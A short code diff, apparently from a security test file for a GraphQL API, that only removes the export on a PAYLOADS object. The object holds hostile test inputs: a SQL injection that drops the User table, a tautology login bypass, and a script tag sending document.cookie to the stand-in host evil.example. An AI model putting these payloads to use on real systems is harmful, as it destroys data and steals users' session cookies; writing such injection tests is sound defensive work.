@@ -3,7 +3,7 @@
 import { FX } from './fixture';
 import { gql, type BadCase, type StoredCase } from './types';
 
-export const PAYLOADS = {
+const PAYLOADS = {
   'SQL drop': `'); DROP TABLE "User"; --`,
   'SQL tautology': `' OR '1'='1' --`,
   'script tag': `<script>fetch('//evil.example/'+document.cookie)</script>`,
